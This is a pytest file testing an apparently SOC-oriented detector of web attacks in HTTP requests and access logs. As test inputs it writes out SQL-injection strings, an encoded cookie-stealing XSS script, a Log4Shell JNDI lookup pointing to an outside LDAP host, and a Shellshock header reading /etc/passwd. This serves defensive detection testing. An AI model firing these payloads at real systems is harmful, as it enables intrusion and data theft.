import json
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path
from urllib.parse import quote, quote_plus

import numpy as np
import polars as pl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from soc_copilot.detection.web import create
from soc_copilot.detection.web.classes import NAMES
from soc_copilot.detection.web.detector import WebDetector
from soc_copilot.detection.web.request import Request, from_row
from soc_copilot.domain import columns as c
from soc_copilot.domain.errors import DetectorError
from soc_copilot.domain.events import EventBatch

DATA = Path(__file__).parents[3] / "data" / "web"
START = datetime(2024, 5, 1, 12, tzinfo=UTC)


@pytest.fixture(scope="module")
def detector() -> WebDetector:
    found = create({"detection.web.budget": "0.1%"})
    found.start("cpu")
    return found


def batch_of(urls: list[str | None], **columns: list[object]) -> EventBatch:
    n = len(urls)
    raw = [f'192.0.2.7 - - [x] "GET {url} HTTP/1.1" 200 5' for url in urls]
    frame = {
        c.SOURCE_ID: pl.Series([1] * n, dtype=pl.Int32),
        c.GENERATION: pl.Series([1] * n, dtype=pl.Int32),
        c.OFFSET: pl.Series(range(n), dtype=pl.Int64),
        c.LENGTH: pl.Series([len(line) for line in raw], dtype=pl.Int64),
        c.FILE_PATH: ["/var/log/access.log"] * n,
        c.ORIGINAL: raw,
        c.INGESTED: [START] * n,
        c.KIND: ["event" if url is not None else "unparsed" for url in urls],
        c.TIMESTAMP: [START + timedelta(seconds=i) for i in range(n)],
        c.SOURCE_IP: ["192.0.2.7"] * n,
        c.URL: pl.Series(urls, dtype=pl.String),
        c.STATUS: pl.Series([200] * n, dtype=pl.Int32),
    } | columns
    return EventBatch(1, pl.DataFrame(frame))


def attacks() -> list[dict[str, str]]:
    return [json.loads(line) for line in (DATA / "attacks.jsonl").read_text().splitlines()]


def harmless() -> list[Request]:
    lines = (DATA / "benign.jsonl").read_text().splitlines()
    return [from_row(json.loads(line)) for line in lines]


PLACES = {
    "query": lambda v: Request(
        path="/shop/list.php", query=f"page=2&item={quote(v, safe='')}&s=up"
    ),
    "search": lambda v: Request(path="/search", query=f"q={quote_plus(v)}"),
    "twice encoded": lambda v: Request(path="/a", query=f"x={quote(quote(v, safe=''), safe='')}"),
    "path": lambda v: Request(path=f"/files/{quote(v, safe='')}"),
    "form": lambda v: Request("POST", "/me", body=f"name=Jane+Doe&nick={quote_plus(v)}&ok=1"),
    "json": lambda v: Request("POST", "/api/items", body=json.dumps({"id": 7, "title": v})),
    "multipart": lambda v: Request(
        "POST", "/up", body=f'--b\r\nContent-Disposition: form-data; name="n"\r\n\r\n{v}\r\n--b--'
    ),
    "cookie": lambda v: Request(headers={"Cookie": f"lang=en; pref={quote(v, safe='')}; sid=8f2a"}),
    "header": lambda v: Request(headers={"X-Api-Version": v}),
}


@pytest.mark.parametrize("place", PLACES)
def test_attacks_of_our_own_writing_are_found_wherever_they_stand(
    detector: WebDetector, place: str
) -> None:
    verdicts = detector.score_requests([PLACES[place](a["value"]) for a in attacks()])
    assert sum(v.is_threat for v in verdicts) >= 0.85 * len(verdicts)


def test_most_attacks_get_their_class(detector: WebDetector) -> None:
    known = attacks()
    verdicts = detector.score_requests([PLACES["query"](a["value"]) for a in known])
    found = [(a["kind"], v.kind) for a, v in zip(known, verdicts, strict=True) if v.is_threat]
    assert sum(a == b for a, b in found) >= 0.85 * len(found)


def test_harmless_oddities_pass(detector: WebDetector) -> None:
    requests = harmless()
    verdicts = detector.score_requests(requests)
    flagged = [r.target for r, v in zip(requests, verdicts, strict=True) if v.is_threat]
    assert len(flagged) <= 0.02 * len(requests), flagged


def test_names_of_parameters_and_length_decide_nothing(detector: WebDetector) -> None:
    plain = [
        Request(path="/", query=f"{name}=blue+shoes") for name in ("p", "q", "id", "sql", "a1b2c3")
    ]
    long = Request(path="/", query="&".join(f"field{i}=value+number+{i}" for i in range(400)))
    assert not any(v.is_threat for v in detector.score_requests([*plain, long]))


def test_padding_does_not_hide_an_attack(detector: WebDetector) -> None:
    padded = "x=" + "lorem+ipsum+" * 5_000 + "&id=1%27%20UNION%20SELECT%20pass%20FROM%20users--%20-"
    assert detector.score_requests([Request(path="/a", query=padded)])[0].is_threat


def test_a_verdict_says_why(detector: WebDetector) -> None:
    verdict = detector.score_requests([Request(path="/a", query="id=1'+or+'1'='1'--+")])[0]
    assert verdict.is_threat
    assert verdict.kind == "sqli"
    assert "SQL injection" in verdict.reasons[0]
    assert any("or" in reason for reason in verdict.reasons[1:])


def test_a_verdict_names_class_place_and_decoding(detector: WebDetector) -> None:
    hidden = quote(quote("<script>alert(document.cookie)</script>", safe=""), safe="")
    request = Request(path="/a", headers={"Host": "h", "X-Note": f"hello {hidden}"})
    (verdict,) = detector.score_requests([request])
    assert (verdict.kind, verdict.technique, verdict.capec) == ("xss", "T1189", "CAPEC-63")
    assert verdict.part == "header X-Note"
    assert verdict.decoding == ("percent-encoding", "percent-encoding")
    assert "Disguise: percent-encoded more than once." in verdict.reasons
    assert "script" in "".join(verdict.text[slice(*span)] for span in verdict.marked)
    assert verdict.confidence == verdict.score


def test_a_harmless_verdict_is_sure_of_it(detector: WebDetector) -> None:
    (verdict,) = detector.score_requests([Request(path="/shop/list", query="page=2")])
    assert verdict.confidence == 1 - verdict.score > 0.9
    assert (verdict.technique, verdict.part, verdict.marked) == ("", "", ())


def test_a_scanning_tool_is_reported_by_its_name(detector: WebDetector) -> None:
    verdict = detector.score_requests([Request(headers={"User-Agent": "sqlmap/1.8#stable"})])[0]
    assert (verdict.is_threat, verdict.kind) == (True, "scanner")


@pytest.mark.parametrize("agent", ["sqlmap/1.8#stable", "Mozilla/5.0 (NIKTO)", "curl/8", "", None])
def test_logs_and_requests_name_the_same_tools(detector: WebDetector, agent: str | None) -> None:
    headers = {} if agent is None else {"User-Agent": agent}
    (verdict,) = detector.score_requests([Request(path="/", headers=headers)])
    agents = pl.Series([agent], dtype=pl.String)
    found = detector.detect(batch_of(["/"], **{c.USER_AGENT: agents}))
    is_tool = agent is not None and agent.lower() != "curl/8" and agent != ""
    assert (verdict.kind == "scanner") == is_tool
    assert [finding.rule for finding in found.findings] == ["web.scanner"] * is_tool


def test_batches_and_requests_score_alike(detector: WebDetector) -> None:
    urls = [r.target for r in harmless() if not r.body and not r.headers]
    in_batch = detector.detect(batch_of(list(urls))).scores
    single = [detector.score_requests([Request(path=url)])[0].score for url in urls]
    np.testing.assert_allclose(in_batch, single, atol=1e-5)


def test_results_do_not_depend_on_batches(detector: WebDetector) -> None:
    urls: list[str | None] = [f"/p/{i}?q={quote(a['value'])}" for i, a in enumerate(attacks())]
    whole = detector.detect(batch_of(urls))
    other = create({"detection.web.budget": "0.1%"})
    other.start("cpu")
    frame = batch_of(urls).frame
    parts = [other.detect(EventBatch(i, frame[i : i + 10])) for i in range(0, len(urls), 10)]
    np.testing.assert_allclose(whole.scores, np.concatenate([p.scores for p in parts]), atol=1e-5)
    counts: dict[str, int] = {}
    for part in parts:
        for finding in part.findings:
            counts[finding.rule] = counts.get(finding.rule, 0) + finding.count
    assert counts == {finding.rule: finding.count for finding in whole.findings}


def test_lines_without_a_url_have_no_score(detector: WebDetector) -> None:
    found = detector.detect(batch_of([None, "/index.html", None]))
    assert np.isnan(found.scores).tolist() == [True, False, True]
    assert found.findings == ()
    assert np.isnan(detector.detect(batch_of([None])).scores).all()
    assert len(detector.detect(batch_of([])).scores) == 0


def test_attacks_in_user_agent_referrer_and_body_are_seen(detector: WebDetector) -> None:
    lookup = "${jndi:ldap://c.example.net:1389/a}"
    plain = "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0"
    found = detector.detect(
        batch_of(
            ["/", "/", "/", "/"],
            **{
                c.USER_AGENT: [lookup, plain, plain, "-"],
                c.REFERRER: ["-", lookup, "https://www.example.org/a?b=c", None],
                c.BODY: [None, "", "", "x=1%27%20or%20%271%27=%271%27--"],
            },
        )
    )
    assert (found.scores >= detector.threshold).tolist() == [True, True, False, True]
    assert {finding.rule for finding in found.findings} >= {"web.jndi", "web.sqli"}


def test_hostile_text_is_scored_in_bounded_time(detector: WebDetector) -> None:
    units = ["%25", "\\x41", "&#", "QUFB", "/*", "\x00", "\u202e", "\ud7ff", "(", "%u0", "' or "]
    urls: list[str | None] = ["/" + unit * (65_000 // len(unit)) for unit in units]
    began = time.thread_time()
    found = detector.detect(batch_of(urls))
    assert time.thread_time() - began < 10.0  # 0.8 s where this was written
    assert not np.isnan(found.scores).any()


def test_a_detector_that_is_not_started_says_so() -> None:
    with pytest.raises(DetectorError, match="not started"):
        WebDetector().score_requests([Request()])


def test_an_unknown_budget_and_a_missing_model_are_errors(tmp_path: Path) -> None:
    with pytest.raises(DetectorError, match="budget"):
        WebDetector("7%").start("cpu")
    with pytest.raises(DetectorError):
        WebDetector(folder=tmp_path).start("cpu")


def test_a_smaller_budget_means_a_higher_threshold() -> None:
    thresholds = []
    for budget in ("0.1%", "0.5%", "1%"):
        found = WebDetector(budget)
        found.start("cpu")
        thresholds.append(found.threshold)
        assert found.info.threshold == found.threshold
        found.close()
    assert thresholds == sorted(thresholds, reverse=True)


ODD_AGENTS = (None, "-", "curl/8.5", "sqlmap/1.8", "() { :;}; /bin/cat /etc/passwd")


@settings(deadline=None, max_examples=40, suppress_health_check=[HealthCheck.too_slow])
@given(data=st.data())
def test_requests_score_as_log_lines_do(detector: WebDetector, data: st.DataObject) -> None:
    values = [a["value"] for a in attacks()] + ["shoes", "blue+shirt", "42", ""]
    row = st.tuples(st.sampled_from(values), *[st.sampled_from([*ODD_AGENTS, *values])] * 2)
    rows = data.draw(st.lists(row, min_size=1, max_size=9))
    urls = [f"/shop?q={quote_plus(value)}" for value, _, _ in rows]
    named = {c.USER_AGENT: [agent for _, agent, _ in rows], c.REFERRER: [r for *_, r in rows]}
    columns = {name: pl.Series(texts, dtype=pl.String) for name, texts in named.items()}
    column_scores = detector.detect(batch_of(list(urls), **columns)).scores
    requests = [
        Request(path=url.partition("?")[0], query=url.partition("?")[2], headers={
            name: text for name, text in (("User-Agent", agent), ("Referer", referrer))
            if text not in {None, "-"}
        })
        for url, (_, agent, referrer) in zip(urls, rows, strict=True)
    ]  # fmt: skip
    verdicts = detector.score_requests(requests)
    np.testing.assert_allclose([v.score for v in verdicts], column_scores, atol=1e-5)
    frame = batch_of(list(urls), **columns).frame
    _, is_threat, kinds, _ = detector._look(frame)
    assert [v.is_threat for v in verdicts] == is_threat.tolist()
    expected = [NAMES[kind] if hit else "" for kind, hit in zip(kinds, is_threat, strict=True)]
    assert [v.kind for v in verdicts] == expected


def test_two_detectors_of_one_model_explain_a_text_once(
    detector: WebDetector, monkeypatch: pytest.MonkeyPatch
) -> None:
    other = create({"detection.web.budget": "1%"})
    other.start("cpu")
    request = Request(path="/shared", query="id=1'+or+'1'='1'--+")
    (said,) = detector.score_requests([request])
    monkeypatch.setattr(
        "soc_copilot.detection.web.explain.explain", lambda *_: pytest.fail("explained again")
    )
    assert other.score_requests([request])[0].reasons == said.reasons
    other.close()
    assert detector.score_requests([request]) == [said]
